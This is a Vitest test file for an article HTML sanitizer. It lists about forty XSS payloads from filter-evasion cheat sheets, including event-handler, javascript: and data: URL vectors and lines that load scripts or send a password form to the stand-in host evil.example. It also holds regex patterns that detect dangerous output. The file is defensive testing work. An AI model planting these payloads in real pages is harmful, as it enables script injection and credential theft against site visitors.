import { describe, expect, it } from "vitest";
import { sanitizeArticleHtml } from "./sanitize.server.ts";

/** Classic XSS vectors (OWASP filter-evasion cheat sheet and friends). */
const payloads = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="/ok.png" onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<img src=JaVaScRiPt:alert(1)>`,
  `<img src="https://evil.example/track.gif">`,
  `<img src="//evil.example/track.gif">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JAVASCRIPT:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
  `<a href=" javascript:alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="/ok" onclick="alert(1)">click</a>`,
  `<a href="/ok" onmouseover=alert(1)>hover</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name="password"><button>Go</button></form>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<p>ok</p><!--<img src=x onerror=alert(1)>-->`,
  `<<script>alert(1);//<</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a href="/ok" target="_self" rel="opener">x</a>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<marquee onstart=alert(1)>x</marquee>`,
];

const dangerous = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<style/i,
  /<link/i,
  /<meta/i,
  /<base/i,
  /<form/i,
  /<input/i,
  /<textarea/i,
  /<template/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /style=/i,
  /src="(?!\/[^/])/i,
  /evil\.example/i,
];

describe("article HTML sanitizer", () => {
  it(`neutralises ${payloads.length} XSS payloads`, () => {
    expect(payloads.length).toBeGreaterThanOrEqual(30);
    for (const payload of payloads) {
      const clean = sanitizeArticleHtml(payload);
      for (const pattern of dangerous) {
        expect(clean, `${payload} → ${clean}`).not.toMatch(pattern);
      }
      // Cleaning is stable: sanitizing the output again changes nothing.
      expect(sanitizeArticleHtml(clean)).toBe(clean);
    }
  });

  it("keeps the markup a writer uses", () => {
    const html =
      '<h2>Heading</h2><p>Some <strong>bold</strong>, <em>italic</em> and <u>underlined</u> text with a <a href="https://www.nhs.uk/">link</a>.</p>' +
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>quote</p></blockquote><hr>' +
      '<p><img src="/uploads/public/1-2.png" alt="An image"></p><pre><code>code</code></pre>' +
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>';
    expect(sanitizeArticleHtml(html)).toBe(
      html.replace("<hr>", "<hr />").replace('alt="An image">', 'alt="An image" />'),
    );
  });

  it("turns h1 into h2, strips classes and hardens links that open a new tab", () => {
    expect(sanitizeArticleHtml('<h1 class="x">Title</h1>')).toBe("<h2>Title</h2>");
    expect(sanitizeArticleHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeArticleHtml('<a href="mailto:hello@example.org">mail</a>')).toBe(
      '<a href="mailto:hello@example.org">mail</a>',
    );
  });

  it("leaves nothing of script-only content", () => {
    expect(sanitizeArticleHtml("<script>alert(1)</script>")).toBe("");
  });
});
